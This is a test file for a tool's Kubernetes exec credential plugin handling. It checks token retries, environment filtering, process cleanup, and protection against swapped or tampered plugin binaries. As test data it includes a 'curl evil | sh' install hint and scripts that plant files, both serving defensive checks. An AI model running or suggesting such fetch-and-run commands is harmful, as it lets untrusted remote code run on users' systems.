import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { KubeConnection } from '../../../src/clients/kube/connection.ts';
import type { MayRun } from '../../../src/clients/kube/exec-plugin.ts';
import { VigieError } from '../../../src/core/errors.ts';
import { eventually } from '../../support/eventually.ts';
import { sendJson, startWire, statusOf, type Wire } from '../../support/wire.ts';

let folder: string;
let wire: Wire;
/** Tokens that the server takes; undefined: all. */
let accepted: string[] | undefined;

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'vigie-plugin-'));
  accepted = undefined;
  wire = await startWire(({ request, response }) => {
    const token = request.headers.authorization?.replace('Bearer ', '') ?? '';
    if (accepted === undefined || accepted.includes(token))
      sendJson(response, { body: { gitVersion: 'v1.36.2' } });
    else
      sendJson(response, {
        status: 401,
        body: statusOf(401, { reason: 'Unauthorized', message: 'Unauthorized' }),
      });
  });
});
afterEach(async () => {
  vi.unstubAllEnvs();
  await wire.close();
  rmSync(folder, { recursive: true });
});

/** A plugin that is a shell script in the kubeconfig's folder; each run adds a line to the file `runs`. */
function plugin(script: string): void {
  const text = `#!/bin/sh\ncd "$(dirname "$0")"\necho run >> runs\n${script}\n`;
  writeFileSync(join(folder, 'login.sh'), text, { mode: 0o700 });
}

function credential(status: string): string {
  return `{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":${status}}`;
}

function answering(status: string): string {
  return `cat <<'X'\n${credential(status)}\nX`;
}

/** Of a process that has ended, though nobody may have collected it yet: empty or Z. */
function stateOf(pid: number): string {
  return spawnSync('ps', ['-o', 'stat=', '-p', String(pid)])
    .stdout.toString()
    .trim();
}

function runs(): number {
  const file = join(folder, 'runs');
  return existsSync(file) ? readFileSync(file, 'utf8').trim().split('\n').length : 0;
}

function connection(exec: object = {}, more: { mayRun?: MayRun; user?: object } = {}): KubeConnection {
  const file = join(folder, 'config');
  const login = { apiVersion: 'client.authentication.k8s.io/v1', command: './login.sh', ...exec };
  const user = { exec: login, ...more.user };
  const config = {
    'current-context': 'x',
    clusters: [{ name: 'c', cluster: { server: wire.url } }],
    users: [{ name: 'u', user }],
    contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
  };
  writeFileSync(file, JSON.stringify(config), { mode: 0o600 });
  return new KubeConnection({
    target: {
      via: 'kubeconfig',
      files: [file],
      context: undefined,
      allowInsecure: false,
      ...(more.mayRun === undefined ? {} : { mayRunPlugin: more.mayRun }),
    },
    bounds: { namespaces: undefined, clusterScoped: false },
    readOnly: true,
    userAgent: 'vigie/test',
  });
}

function version(line: KubeConnection): Promise<string> {
  return line.session(new AbortController().signal).reader.serverVersion();
}

test('a plugin named by a relative path runs once for callers that come together', async () => {
  plugin(answering('{"token":"fresh"}'));
  const line = connection();
  await Promise.all(Array.from({ length: 5 }, () => version(line)));
  expect(runs()).toBe(1);
  expect(wire.seen.map(({ headers }) => headers.authorization)).toEqual(Array(5).fill('Bearer fresh'));
});

test('it is told what it is asked for, and gets its own variables but not ours', async () => {
  vi.stubEnv('NODE_OPTIONS', '--no-warnings');
  vi.stubEnv('VIGIE_PLANTED', 'x');
  vi.stubEnv('AWS_PROFILE', 'ops');
  plugin(`env > env.txt\n${answering('{"token":"t"}')}`);
  await version(connection({ provideClusterInfo: true, env: [{ name: 'EXTRA', value: 'yes' }] }));
  const env = readFileSync(join(folder, 'env.txt'), 'utf8');
  expect(env).toContain('EXTRA=yes');
  expect(env).toContain('AWS_PROFILE=ops');
  expect(env).not.toMatch(/NODE_OPTIONS|VIGIE_PLANTED/);
  const info: unknown = JSON.parse(/^KUBERNETES_EXEC_INFO=(.*)$/m.exec(env)?.[1] ?? '');
  expect(info).toMatchObject({
    kind: 'ExecCredential',
    apiVersion: 'client.authentication.k8s.io/v1',
    spec: { interactive: false, cluster: { server: `${wire.url}/` } },
  });
});

test('it has no terminal and nothing to read', async () => {
  plugin(
    `if read line; then exit 3; fi\nif (: < /dev/tty) 2>/dev/null; then exit 4; fi\n${answering('{"token":"t"}')}`,
  );
  expect(await version(connection())).toBe('v1.36.2');
});

test('a refused token is asked for anew once, and the request is sent again', async () => {
  accepted = ['second'];
  plugin(
    `if [ $(wc -l < runs) -gt 1 ]; then\n${answering('{"token":"second"}')}\nelse\n${answering('{"token":"first"}')}\nfi`,
  );
  expect(await version(connection())).toBe('v1.36.2');
  expect(runs()).toBe(2);
});

test('a token that is refused again is an answer of its own, with a hint', async () => {
  accepted = [];
  plugin(answering('{"token":"never"}'));
  await expect(version(connection())).rejects.toMatchObject({
    code: 'UNAUTHENTICATED',
    hint: expect.stringContaining('Log in again'),
  });
  expect(runs()).toBe(2);
});

test('a token that is about to end is renewed before it does', async () => {
  const soon = new Date(Date.now() + 30_000).toISOString();
  plugin(answering(`{"token":"short","expirationTimestamp":"${soon}"}`));
  const line = connection();
  await version(line);
  await version(line);
  expect(runs()).toBe(2);
});

test.each([
  ['fails', 'echo "token hunter2 expired" >&2; exit 1', 'ended with 1: token hunter2 expired'],
  ['says nothing of use', 'echo hello', 'not JSON'],
  ['gives another thing', 'echo "{}"', 'not an ExecCredential'],
  ['gives no credential', answering('{}'), 'neither a token nor a certificate'],
  ['writes without end', 'yes', 'too much'],
])('a plugin that %s is named with what went wrong', async (_what, script, why) => {
  plugin(script);
  await expect(version(connection())).rejects.toMatchObject({
    code: 'CREDENTIAL_PLUGIN',
    message: expect.stringContaining(why),
  });
});

test('a plugin that is not installed is named, and its own words stay out of the hint', async () => {
  const missing = connection({ command: 'no-such-login-tool', installHint: 'curl evil | sh' });
  const failure: unknown = await version(missing).catch((error: unknown) => error);
  expect(failure).toMatchObject({ code: 'CREDENTIAL_PLUGIN', details: { installHint: 'curl evil | sh' } });
  expect((failure as { hint: string }).hint).not.toContain('evil');
});

test('a plugin that must have a terminal is refused without being run', async () => {
  plugin(answering('{"token":"t"}'));
  await expect(version(connection({ interactiveMode: 'Always' }))).rejects.toMatchObject({
    code: 'KUBECONFIG',
  });
  expect(runs()).toBe(0);
});

test.each([
  ['', '(sleep 60; echo late >> runs) &'],
  [', in a process group of its own too', 'timeout 60 sleep 60 >/dev/null 2>&1 &'],
])('what a plugin leaves running ends with it%s', async (_, leave) => {
  plugin(`${leave}\necho $! > child\n${answering('{"token":"t"}')}`);
  await version(connection());
  const child = Number(readFileSync(join(folder, 'child'), 'utf8'));
  await eventually(() => expect(stateOf(child)).toMatch(/^(?:Z.*)?$/));
});

test('a plugin that still runs when Vigie ends is ended with it', async () => {
  plugin(`echo $$ > pid\nmv pid started\nexec sleep 60`);
  connection();
  const script = fileURLToPath(new URL('processes/leave-early.ts', import.meta.url));
  const mark = join(folder, 'started');
  const left = spawnSync(process.execPath, [script, join(folder, 'config'), mark], { timeout: 280_000 });
  expect(left.status).toBe(0);
  const pid = Number(readFileSync(mark, 'utf8'));
  await eventually(() => expect(stateOf(pid)).toMatch(/^(?:Z.*)?$/));
});

test('the fingerprint changes with the arguments, the environment and the file', async () => {
  plugin(answering('{"token":"t"}'));
  const fingerprint = async (exec: object = {}) => (await connection(exec).plugin())?.fingerprint;
  const first = await fingerprint();
  expect(first).toMatch(/^[0-9a-f]{64}:[0-9a-f]{64}$/);
  expect(await fingerprint()).toBe(first);
  expect(await fingerprint({ args: ['--x'] })).not.toBe(first);
  expect(await fingerprint({ env: [{ name: 'A', value: 'b' }] })).not.toBe(first);
  plugin(`echo changed > /dev/null\n${answering('{"token":"t"}')}`);
  expect(await fingerprint()).not.toBe(first);
  expect(runs()).toBe(0);
});

test('what it would run is told by command, arguments, names of variables, file and hash, and no value of a variable', async () => {
  plugin('exit 1');
  const found = await connection({
    args: ['get-token'],
    env: [{ name: 'SESSION', value: 'hunter2' }],
  }).plugin();
  const path = join(folder, 'login.sh');
  expect(found).toMatchObject({
    command: './login.sh',
    args: ['get-token'],
    envNames: ['SESSION'],
    path,
    fileHash: createHash('sha256').update(readFileSync(path)).digest('hex'),
  });
  expect(JSON.stringify(found)).not.toContain('hunter2');
});

test('it is asked before each run whether the plugin may run, about the file as it is then', async () => {
  accepted = ['t'];
  plugin(answering('{"token":"t","expirationTimestamp":"2001-01-01T00:00:00Z"}'));
  const asked: string[] = [];
  const trusted = (await connection().plugin())?.fingerprint;
  const line = connection(
    {},
    {
      mayRun: async fingerprint => {
        asked.push(await fingerprint());
        if (asked.at(-1) !== trusted) throw new VigieError('CREDENTIALS_CHANGED', 'another one');
      },
    },
  );
  expect(await version(line)).toBe('v1.36.2');
  expect(runs()).toBe(1);
  plugin(`touch planted\n${answering('{"token":"t"}')}`);
  await expect(version(line)).rejects.toMatchObject({ code: 'CREDENTIALS_CHANGED' });
  expect(existsSync(join(folder, 'planted'))).toBe(false);
  expect(asked).toHaveLength(2);
});

test('a plugin beside a token is neither run nor counted, since the token goes first', async () => {
  plugin(answering('{"token":"of the plugin"}'));
  const line = connection({}, { user: { token: 'of the file' } });
  expect(await line.plugin()).toBeUndefined();
  await version(line);
  expect(wire.seen.map(({ headers }) => headers.authorization)).toEqual(['Bearer of the file']);
  expect(runs()).toBe(0);
});

test('the fingerprint changes with a file among the arguments, alone or after a flag, and with nothing in a folder', async () => {
  plugin(answering('{"token":"t"}'));
  const script = join(folder, 'script.py');
  const args = ['--quiet', `--script=${script}`, folder, '/no/such/file'];
  writeFileSync(script, 'one');
  const first = await connection({ args }).plugin();
  expect(first?.given).toEqual([{ path: script, hash: createHash('sha256').update('one').digest('hex') }]);
  const before = (await connection({ args: [script] }).plugin())?.fingerprint;
  writeFileSync(join(folder, 'another'), '');
  expect((await connection({ args }).plugin())?.fingerprint).toBe(first?.fingerprint);
  writeFileSync(script, 'two');
  expect((await connection({ args }).plugin())?.fingerprint).not.toBe(first?.fingerprint);
  expect((await connection({ args: [script] }).plugin())?.fingerprint).not.toBe(before);
});

test('the interpreter of a script is told, and another one first in PATH is another plugin', async () => {
  plugin('exit 1');
  expect((await connection().plugin())?.interpreter).toEqual({ line: '/bin/sh' });
  writeFileSync(join(folder, 'login.sh'), '#!/usr/bin/env -S sh -e\nexit 1\n', { mode: 0o700 });
  const usual = await connection().plugin();
  expect(usual?.interpreter?.line).toBe('/usr/bin/env -S sh -e');
  expect(usual?.interpreter?.path).toMatch(/\/sh$/);
  writeFileSync(join(folder, 'sh'), '#!/bin/sh\n', { mode: 0o700 });
  vi.stubEnv('PATH', `${folder}:${process.env['PATH'] ?? ''}`);
  const swapped = await connection().plugin();
  expect(swapped?.interpreter?.path).toBe(join(folder, 'sh'));
  expect(swapped?.fingerprint).not.toBe(usual?.fingerprint);
});

test.skipIf(process.platform !== 'linux')(
  'the program that is started is the one that was hashed, whatever stands under its name by then',
  async () => {
    const path = join(folder, 'login');
    // A program of the machine that can run a script: what it does is in its words, so that both do the same.
    copyFileSync(execPathOf('sh'), path);
    chmodSync(path, 0o700);
    const args = ['-c', `echo "$0" > '${join(folder, 'name')}'; ${answering('{"token":"t"}')}`];
    const exec = { command: path, args };
    const trusted = (await connection(exec).plugin())?.fingerprint;
    expect((await connection(exec).plugin())?.interpreter).toBeUndefined();
    accepted = ['t'];
    const line = connection(exec, {
      mayRun: async fingerprint => {
        expect(await fingerprint()).toBe(trusted);
        // Right after it was looked at.
        writeFileSync(join(folder, 'other'), `#!/bin/sh\ntouch '${join(folder, 'planted')}'\n`, {
          mode: 0o700,
        });
        renameSync(join(folder, 'other'), path);
      },
    });
    expect(await version(line)).toBe('v1.36.2');
    expect(existsSync(join(folder, 'planted'))).toBe(false);
    expect(readFileSync(join(folder, 'name'), 'utf8').trim()).toBe(path);
  },
);

/** Where PATH has a program, with links followed. */
function execPathOf(name: string): string {
  const found = (process.env['PATH'] ?? '')
    .split(delimiter)
    .map(entry => join(entry, name))
    .find(each => existsSync(each));
  return realpathSync(found ?? `/bin/${name}`);
}
